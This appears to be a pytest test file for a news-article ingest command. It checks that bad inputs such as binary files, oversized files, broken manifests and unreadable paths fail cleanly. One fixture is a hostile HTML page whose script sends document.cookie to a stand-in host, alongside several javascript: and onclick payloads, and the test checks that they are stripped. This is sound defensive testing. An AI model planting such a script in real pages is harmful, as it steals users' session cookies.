"""Bad input through ``reformkg ingest``: each source fails alone with a one-line error naming it,
the run carries on, exits non-zero, and the articles stored before are still there, unchanged."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pyoxigraph as ox
import pytest

from reformkg.cli import app

GOOD = (
    "Jane Okafor, leader of Suffolk County Council, welcomed the £12m Coastal Towns Fund announced "
    "by the Department for Levelling Up on Tuesday. She said the money would reach Lowestoft first.\n"
)
ACCENTED = (
    "The Department for Education said on 3 March 2024 that café owners in Norfolk would share £5m "
    "from the Local Growth Fund, a “welcome” boost – according to Councillor Aoife Brennan.\n"
)


@pytest.fixture
def store(seed_store: Path, tmp_path: Path) -> Path:
    """A private copy of the founding-corpus store, so a test may write to it."""
    copy = tmp_path / "store"
    shutil.copytree(seed_store, copy)
    return copy


def _quads(store: Path) -> set[str]:
    s = ox.Store.read_only(str(store))
    # blank nodes are relabelled on each open: compare the graphs without them
    return {str(q) for q in s if not any(isinstance(t, ox.BlankNode) for t in (q.subject, q.object))}


def _ingest(runner, store: Path, *paths: Path):
    return runner.invoke(app, ["ingest", *map(str, paths), "--store", str(store)])


def _error_lines(result) -> list[str]:
    return [ln for ln in result.stderr.splitlines() if ln.startswith("error:")]


BAD_FILES = {
    "empty.txt": (b"", "no article text"),
    "nul.txt": (b"GIF89a\x00\x00\x01" * 50, "binary file"),
    "report.txt": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "binary file (PDF)"),
    "noise.txt": (bytes(range(1, 32)) * 40, "binary file (control characters)"),
    "furniture.txt": (b"Cookie\nMenu\nSearch\nSubscribe now\n", "no article text"),
}


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_bad_input_one_line_error_and_nothing_lost(runner, store: Path, tmp_path: Path, name: str) -> None:
    before = _quads(store)
    folder = tmp_path / "in"
    folder.mkdir()
    data, reason = BAD_FILES[name]
    (folder / name).write_bytes(data)
    (folder / "zz-good.txt").write_text(GOOD, encoding="utf-8")
    result = _ingest(runner, store, folder)
    assert result.exit_code == 3, result.output
    errors = _error_lines(result)
    assert len(errors) == 1 and errors[0].startswith(f"error: {folder / name}: {reason}"), errors
    after = _quads(store)
    assert before <= after  # everything stored before is still there
    assert any(GOOD[:40] in q for q in after - before)  # the run carried on past the bad file


def test_bad_input_50mb_file_refused_by_size(runner, store: Path, tmp_path: Path) -> None:
    big = tmp_path / "dump.txt"
    with big.open("wb") as fh:
        fh.write(b"The council met on Tuesday to discuss the budget for the year. " * 800_000)
    assert big.stat().st_size > 50_000_000
    before = _quads(store)
    result = _ingest(runner, store, big)
    assert result.exit_code == 3
    assert _error_lines(result) == [f"error: {big}: file too large (50.4 MB, limit 10 MB): split it into articles"]
    assert _quads(store) == before


def test_bad_input_non_utf8_decoded_with_note(runner, store: Path, tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a-cp1252.txt").write_bytes(ACCENTED.encode("cp1252"))
    latin = ACCENTED.replace("“", '"').replace("”", '"').replace("–", "-").replace("Aoife", "Zoë")
    (tmp_path / "in" / "b-latin1.txt").write_bytes(latin.encode("latin-1"))
    result = _ingest(runner, store, tmp_path / "in")
    assert result.exit_code == 0, result.output
    assert "a-cp1252.txt" in result.stderr and "(not UTF-8: decoded as cp1252)" in result.stderr
    texts = [q.object.value for q in ox.Store.read_only(str(store))
             if q.predicate.value.endswith("#text") and "café" in q.object.value]
    assert len(texts) == 2
    assert any("“welcome” boost – according" in t for t in texts)
    assert any("Zoë" in t and "£5m" in t for t in texts)


def test_bad_input_manifest_bad_lines_reported_good_ones_stored(runner, store: Path, tmp_path: Path) -> None:
    (tmp_path / "ok.txt").write_text(ACCENTED, encoding="utf-8")
    lines = [
        json.dumps({"text": GOOD, "title": "Coastal fund"}),
        '{"text": "unterminated',
        json.dumps({"title": "a record without text"}),
        json.dumps({"path": "nowhere.txt"}),
        json.dumps(["not", "an", "object"]),
        json.dumps({"path": "ok.txt", "published": "2024-03-03"}),
    ]
    manifest = tmp_path / "batch.jsonl"
    manifest.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = _ingest(runner, store, manifest)
    assert result.exit_code == 3
    errors = _error_lines(result)
    where = f"error: {manifest}:"
    assert errors == [
        f"{where}2: malformed manifest line (Unterminated string starting at: line 1 column 10 (char 9))",
        f"{where}3: record has neither 'text' nor 'path'",
        f"{where}4: {tmp_path / 'nowhere.txt'} does not exist",
        f"{where}5: malformed manifest line (not a JSON object)",
    ]
    assert "2 article(s) stored" in result.stderr


def test_bad_input_unreadable_file_and_folder(runner, store: Path, tmp_path: Path, monkeypatch) -> None:
    # CI runs as root, which reads any file whatever its mode: simulate the refusal the OS would give
    folder = tmp_path / "in"
    (folder / "locked").mkdir(parents=True)
    (folder / "a-secret.txt").write_text(GOOD, encoding="utf-8")
    (folder / "b-open.txt").write_text(ACCENTED, encoding="utf-8")
    real_read, real_scandir = Path.read_bytes, os.scandir

    def read_bytes(self: Path) -> bytes:
        if self.name == "a-secret.txt":
            raise PermissionError(13, "Permission denied", str(self))
        return real_read(self)

    def scandir(path="."):  # noqa: ANN001
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    monkeypatch.setattr(os, "scandir", scandir)
    result = _ingest(runner, store, folder)
    assert result.exit_code == 3
    assert sorted(_error_lines(result)) == [
        f"error: {folder / 'a-secret.txt'}: cannot read (Permission denied)",
        f"error: {folder / 'locked'}: cannot read folder (Permission denied)",
    ]
    assert "stored " + str(folder / "b-open.txt") in result.stderr


HOSTILE_HTML = """<!doctype html><html><head><title>Fund news</title>
<script>fetch('http://127.0.0.1:9/steal?c=' + document.cookie)</script></head><body>
<form action="http://127.0.0.1:9/post" method="post"><input name="q"><button>Go</button></form>
<iframe src="javascript:alert('iframe')"></iframe><nav><a href="/">Home</a></nav>
<article><h1>Coastal towns get money</h1><p>{good}</p>
<p>Residents can <a href="javascript:alert('link')">read the plan</a> online.<script>alert('inline')</script></p>
<p onclick="alert('attr')">The fund opens to bids in April, the council said on Wednesday.</p></article>
<object data="x.swf"></object><embed src="x.swf"></body></html>"""


def test_bad_input_hostile_html_keeps_text_drops_code(runner, store: Path, tmp_path: Path) -> None:
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE_HTML.format(good=GOOD.strip()), encoding="utf-8")
    result = _ingest(runner, store, page)
    assert result.exit_code == 0, result.output
    texts = [q.object.value for q in ox.Store.read_only(str(store))
             if q.predicate.value.endswith("#text") and "Coastal Towns Fund" in q.object.value]
    assert len(texts) == 1
    assert "The fund opens to bids in April" in texts[0]
    for code in ("alert(", "fetch(", "document.cookie", "<script", "<iframe", "<form", "javascript:"):
        assert code not in texts[0]


def test_bad_input_fifo_is_not_read(runner, store: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    result = _ingest(runner, store, fifo)  # reading it would block for ever
    assert result.exit_code == 3
    assert _error_lines(result) == [f"error: {fifo}: not a regular file"]


def test_bad_input_no_entities_and_duplicates_are_clean(runner, store: Path, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "calm.txt").write_text("it was a quiet day and nothing whatever happened to anyone at all.\n")
    (folder / "one.txt").write_text(GOOD)
    (folder / "two.txt").write_text(GOOD)
    before = ox.Store.read_only(str(store))
    n_before = len(list(before.named_graphs()))
    del before
    result = _ingest(runner, store, folder)
    assert result.exit_code == 0, result.output
    assert not _error_lines(result)
    assert len(list(ox.Store.read_only(str(store)).named_graphs())) == n_before + 2  # the twin is one article
